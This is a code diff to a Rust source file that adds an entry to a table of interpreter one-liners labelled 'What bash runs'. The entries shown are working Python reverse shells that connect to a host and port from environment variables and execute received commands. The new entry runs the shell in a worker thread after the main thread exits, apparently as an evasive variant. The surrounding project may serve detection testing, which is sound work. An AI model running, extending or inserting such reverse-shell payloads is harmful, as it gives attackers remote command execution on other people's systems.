@@ -18,7 +18,7 @@ pub const LOOP_INBOUND: Want = Want {
 };
 
 /// What bash runs.
-const POPS: [(&str, &[&str], &str); 29] = [
+const POPS: [(&str, &[&str], &str); 30] = [
     (
         "ruby_popen",
         &["ruby"],
@@ -63,6 +63,17 @@ while c:=s.recv(1024): s.sendall(subprocess.getoutput(c.decode()).encode()+b"\n"
         r#"exec /usr/bin/python3 -c 'import os,socket
 s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
 for l in s.makefile(): s.sendall(os.popen(l).read().encode())'"#,
+    ),
+    // The first thread ends and leaves the work, and what is open, to another one.
+    (
+        "python_without_its_first_thread",
+        &["python3"],
+        r#"exec /usr/bin/python3 -c 'import ctypes,os,socket,subprocess,threading
+s=socket.create_connection((os.environ["H"],int(os.environ["P"])))
+def work():
+  for l in s.makefile(): s.sendall(subprocess.getoutput(l).encode()+b"\n")
+  os._exit(0)
+threading.Thread(target=work).start(); ctypes.CDLL(None).pthread_exit(None)'"#,
     ),
     (
         "python_cheat_sheet",
